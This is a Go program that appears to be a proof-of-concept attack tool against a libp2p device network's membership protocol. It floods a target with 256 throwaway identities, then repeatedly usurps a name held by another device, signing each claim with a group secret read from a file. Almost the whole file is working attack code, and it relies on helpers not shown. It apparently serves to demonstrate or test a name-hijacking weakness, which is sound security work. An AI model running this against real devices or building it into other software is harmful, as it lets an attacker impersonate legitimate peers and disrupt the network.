package main

import (
	"context"
	"fmt"
	"net"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/peer"
	mss "github.com/multiformats/go-multistream"

	"github.com/hearth-edge/hearth/keys"
)

// throwAway is how many identities claim names before an attack on them has begun: as
// many as devices once remembered.
const throwAway = 256

// claimMany claims a new name under each of many identities, and after them again and
// again, each time under another one, the name that is to be had.
func claimMany(ctx context.Context, target, file, name string) error {
	victim, err := identify(ctx, target)
	if err != nil {
		return err
	}
	for i := range throwAway {
		if err := claim(ctx, target, victim, file, fmt.Sprint("crowd-", i)); err != nil {
			return err
		}
	}
	return usurp(ctx, target, file, name)
}

// usurp claims a name that another device has, each time under another identity.
func usurp(ctx context.Context, target, file, name string) error {
	victim, err := identify(ctx, target)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		if err := claim(ctx, target, victim, file, name); err != nil {
			return err
		}
		started()
	}
	return ctx.Err()
}

// identify learns the device's ID, as soon as it listens: it takes some connections a
// second only.
func identify(ctx context.Context, target string) (peer.ID, error) {
	key, _, err := crypto.GenerateEd25519Key(nil)
	if err != nil {
		return "", err
	}
	for {
		id, err := whoIs(ctx, target, key)
		if err == nil || ctx.Err() != nil {
			return id, err
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// claim makes one handshake under an identity of its own, as often as it takes until
// the device listens to it.
func claim(ctx context.Context, target string, victim peer.ID, file, name string) error {
	secret, err := keys.ReadSecretFile(file)
	if err != nil {
		return err
	}
	key, _, err := crypto.GenerateEd25519Key(nil)
	if err != nil {
		return err
	}
	id, err := peer.IDFromPrivateKey(key)
	if err != nil {
		return err
	}
	proof, err := certificate(secret, id, name)
	if err != nil {
		return err
	}
	for ctx.Err() == nil && claimOnce(ctx, target, victim, &member{key: key, proof: proof}) != nil {
		time.Sleep(10 * time.Millisecond)
	}
	return ctx.Err()
}

func claimOnce(ctx context.Context, target string, victim peer.ID, m *member) error {
	raw, err := net.DialTimeout("tcp", target, 5*time.Second)
	if err != nil {
		return err
	}
	defer raw.Close()
	if err := raw.SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
		return err
	}
	if err := mss.SelectProtoOrFail(membershipID, raw); err != nil {
		return err
	}
	_, err = m.SecureOutbound(ctx, raw, victim)
	return err
}
